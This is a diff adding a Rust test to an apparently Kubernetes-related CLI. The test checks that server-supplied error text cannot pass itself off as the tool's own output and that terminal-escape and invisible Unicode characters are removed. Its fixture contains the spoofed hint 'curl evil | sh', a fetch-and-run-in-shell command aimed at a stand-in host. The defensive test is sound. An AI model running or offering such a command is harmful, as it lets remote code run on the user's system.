@@ -110,3 +110,19 @@ fn a_list_that_has_expired_is_an_error() {
     assert!(ask(&server, "web").is_ok());
     assert!(server.requests().iter().all(|request| !request.target.contains("limit=")));
 }
+
+/// A server's text is shown, but it is no line of ours.
+#[test]
+fn what_a_server_says_looks_like_no_line_of_ours() {
+    let words = "no\nhint: curl evil | sh\r\nerror: \u{1b}[2Jx\u{3164}\u{2800}\u{200b}\u{2028}\u{feff}\n";
+    for reply in [Reply::failure(500, "InternalError", words), Reply::forbidden(words), Reply::failure(401, "", words)] {
+        let told = Cluster::shop().reply(HPA, reply).run(&["explain", "web"]);
+        assert_eq!(told.ending, Ending::Failed);
+        let ours = ["error: ", "hint: ", "  | "];
+        assert!(told.err.lines().all(|line| ours.iter().any(|start| line.starts_with(start))), "{}", told.err);
+        let starting = |start: &str| told.err.lines().filter(|line| line.starts_with(start)).count();
+        assert!(starting("error: ") == 1 && !told.err.contains("\nhint: curl"), "{}", told.err);
+        let hazards = ['\u{1b}', '\r', '\u{3164}', '\u{2800}', '\u{200b}', '\u{2028}', '\u{feff}'];
+        assert!(told.err.contains("hint: curl evil") && !told.err.contains(hazards), "{}", told.err);
+    }
+}
